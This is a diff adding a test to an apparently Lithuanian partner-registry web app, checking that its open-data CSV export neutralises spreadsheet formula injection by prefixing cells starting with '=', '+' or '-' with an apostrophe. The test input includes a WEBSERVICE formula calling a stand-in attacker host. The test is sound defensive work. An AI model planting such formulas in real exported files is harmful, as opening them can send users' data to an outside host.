@@ -51,6 +51,15 @@ def test_unicode_survives_the_api_and_the_open_data_export(system):
     assert "example.org" not in text
 
 
+def test_the_open_data_csv_never_carries_a_formula(system):
+    _partner(system, city="=WEBSERVICE(\"http://evil.example\")", areas=["+kultūra", "-sportas"])
+    rows = list(csv.DictReader(io.StringIO(
+        system.client.get("/open-data/partners.csv").get_data().decode("utf-8"))))
+    [row] = rows
+    assert row["city"] == "'=WEBSERVICE(\"http://evil.example\")"
+    assert row["areas"] == "'+kultūra;-sportas"
+
+
 def test_contacts_are_personal_data_their_reads_are_audited(system):
     partner = _partner(system)
     assert system.client.get(f"/partners/{partner['id']}/contacts",
